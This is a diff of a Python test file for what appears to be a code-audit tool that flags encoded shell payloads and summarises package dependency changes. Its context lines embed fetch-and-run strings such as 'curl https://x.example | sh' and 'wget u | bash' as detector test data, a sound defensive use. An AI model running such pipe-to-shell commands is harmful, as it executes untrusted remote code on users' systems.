@@ -145,3 +145,11 @@ def test_payload_far_down():
     blob = lambda tail: base64.b64encode(b"echo x\n" * 20_000 + tail).decode()
     assert payload.encoded_payload("x=" + blob(b"curl https://x.example | sh\n")) == "base64:shell"
     assert payload.encoded_payload("x=" + blob(b"curl u\n| sh\n")) is None and payload.encoded_payload("x=" + blob(b"a | sh; wget u | bash\n")) == "base64:shell"
+
+
+def test_summary_lists_all(spark):
+    from auditloom.operators import diffs
+
+    names = [f"dep{i}" for i in range(9)]
+    df = spark.createDataFrame([(1, "--- a/PKGBUILD\n+++ b/PKGBUILD\n@@ -1 +1,2 @@\n pkgname=x\n+depends=(" + " ".join(names) + ")\n")], "id long, text string")
+    assert reports.summary(diffs.diff_facts(df, "id", "text"), "id").first().changes == "adds dependency " + ", ".join(names)
